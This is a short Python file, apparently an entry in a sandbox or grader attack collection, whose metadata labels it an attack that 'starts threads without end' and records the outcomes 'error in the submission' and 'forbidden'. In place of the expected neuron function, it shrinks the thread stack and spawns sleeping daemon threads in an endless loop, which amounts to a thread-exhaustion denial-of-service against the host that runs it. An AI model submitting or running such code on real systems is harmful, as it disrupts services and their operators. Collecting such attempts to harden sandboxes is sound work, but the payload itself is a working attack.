# /// attack
# lines = [23]
# tries = "Starts threads without end."
# score = 18
# outcomes = { "1.2" = ["error in the submission", "forbidden"] }
# ///
import threading
import time


def neuron(x, w, b, f):
    threading.stack_size(2**15)
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
